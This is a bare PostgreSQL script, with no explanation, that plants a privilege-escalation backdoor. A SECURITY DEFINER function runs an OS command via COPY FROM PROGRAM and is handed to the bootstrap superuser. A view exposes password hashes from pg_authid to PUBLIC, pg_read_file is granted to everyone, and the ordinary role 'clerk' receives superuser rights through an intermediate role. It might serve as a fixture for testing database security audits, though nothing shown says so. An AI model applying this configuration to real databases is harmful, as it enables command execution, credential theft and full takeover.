CREATE TABLE users (id int PRIMARY KEY, email text);
ALTER TABLE users OWNER TO clerk;
CREATE EXTENSION file_fdw;
CREATE SERVER machine FOREIGN DATA WRAPPER file_fdw;
CREATE FOREIGN TABLE output (line text) SERVER machine OPTIONS (program 'id');
ALTER FOREIGN TABLE output OWNER TO clerk;
CREATE FUNCTION run() RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS $$
BEGIN
  CREATE TEMP TABLE said (line text);
  COPY said FROM PROGRAM 'id';
  RETURN (SELECT string_agg(line, ' ') FROM said);
END $$;
CREATE VIEW passwords AS SELECT rolname, rolpassword FROM pg_authid;
CREATE FUNCTION arm() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  EXECUTE format('ALTER FUNCTION run() OWNER TO %I', (SELECT rolname FROM pg_roles WHERE oid = 10));
  EXECUTE format('ALTER VIEW passwords OWNER TO %I', (SELECT rolname FROM pg_roles WHERE oid = 10));
  GRANT SELECT ON passwords TO PUBLIC;
  GRANT pg_write_server_files TO pg_monitor;
  GRANT pg_monitor TO clerk;
  CREATE ROLE between;
  EXECUTE format('GRANT %I TO between', (SELECT rolname FROM pg_roles WHERE oid = 10));
  GRANT between TO clerk;
  GRANT EXECUTE ON FUNCTION pg_read_file(text) TO PUBLIC;
END $$;
SELECT arm();
